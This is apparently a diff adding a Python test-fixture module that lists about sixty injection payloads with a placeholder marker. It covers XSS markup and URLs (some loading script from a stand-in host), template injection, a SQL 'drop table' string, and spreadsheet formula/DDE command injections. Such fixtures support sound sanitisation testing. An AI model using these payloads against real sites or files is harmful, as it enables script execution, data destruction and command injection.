@@ -1,0 +1,68 @@
+"""Sixty texts that a page, a spreadsheet or a query may take for something else than text. MARK stands in every one that would run."""
+
+MARK = "loaevil"
+
+MARKUP = [
+    f"<script>{MARK}(1)</script>",
+    f"</script><script>{MARK}(2)</script>",
+    f"<ScRiPt src=//{MARK}.example/x.js></sCrIpT>",
+    f"<img src=x onerror={MARK}(3)>",
+    f'"><img src=x onerror={MARK}(4)>',
+    f"'><svg onload={MARK}(5)>",
+    f"<svg/onload={MARK}(6)//",
+    f"<svg><script>{MARK}(7)</script></svg>",
+    f"<iframe srcdoc='<script>{MARK}(8)</script>'></iframe>",
+    f"<iframe src=javascript:{MARK}(9)></iframe>",
+    f"<body onload={MARK}(10)>",
+    f"<details open ontoggle={MARK}(11)>x</details>",
+    f"<input autofocus onfocus={MARK}(12)>",
+    f"<video><source onerror={MARK}(13)></video>",
+    f"<math><mi xlink:href='javascript:{MARK}(14)'>x</mi></math>",
+    f"<object data='data:text/html,<script>{MARK}(15)</script>'></object>",
+    f"<embed src='javascript:{MARK}(16)'>",
+    f"<form action='javascript:{MARK}(17)'><button>x</button></form>",
+    f"<button formaction='javascript:{MARK}(18)'>x</button>",
+    f"<base href='//{MARK}.example/'>",
+    f"<link rel=stylesheet href='//{MARK}.example/x.css'>",
+    f"<meta http-equiv=refresh content='0;url=//{MARK}.example/'>",
+    f"<style>@import '//{MARK}.example/x.css';</style>",
+    f"<a href='javascript:{MARK}(19)'>x</a>",
+    f"<template><script>{MARK}(20)</script></template>",
+    f"--><script>{MARK}(21)</script><!--",
+    f"]]><script>{MARK}(22)</script>",
+    f"</title><script>{MARK}(23)</script>",
+    f"</textarea><script>{MARK}(24)</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={MARK}(25)>'>",
+    f"<table background='javascript:{MARK}(26)'>",
+    f"<x onclick={MARK}(27)>x",
+    f"&lt;script&gt;{MARK}(28)&lt;/script&gt;",
+    f"&#60;script&#62;{MARK}(29)",
+    f"\uff1cscript\uff1e{MARK}(30)\uff1c/script\uff1e",
+    f"+ADw-script+AD4-{MARK}(31)",
+]
+ADDRESSES = [
+    f"javascript:{MARK}(32)",
+    f"JaVaScRiPt:{MARK}(33)",
+    f"java\tscript:{MARK}(34)",
+    f"\x01javascript:{MARK}(35)",
+    f"javascript://example.org/%0a{MARK}(36)",
+    f"vbscript:{MARK}(37)",
+    f"data:text/html,<script>{MARK}(38)</script>",
+    f'http://example.org/"onmouseover="{MARK}(39)',
+    f"http://example.org/'onmouseover='{MARK}(40)",
+    f"http://example.org/?a=<script>{MARK}(41)</script>",
+    f"//{MARK}.example/x",
+    f"http://[{MARK}",
+]
+TEMPLATES = [f"{{{{ {MARK} }}}}", f"{{% include '{MARK}' %}}", f"${{{MARK}}}", f"'; drop table articles; -- {MARK}", f"⟪<script>{MARK}(42)</script>⟫"]
+FORMULAS = [
+    f'=HYPERLINK("http://{MARK}.example/","x")',
+    f"+cmd|' /C {MARK}'!A0",
+    f"-2+3+cmd|' /C {MARK}'!A0",
+    f"@SUM(1+1)*cmd|' /C {MARK}'!A0",
+    f"\t={MARK}",
+    f"\r={MARK}",
+    f" \u00a0={MARK}",
+    f"\uff1d{MARK}",
+]
+PAYLOADS = [*MARKUP, *ADDRESSES, *TEMPLATES, *FORMULAS]
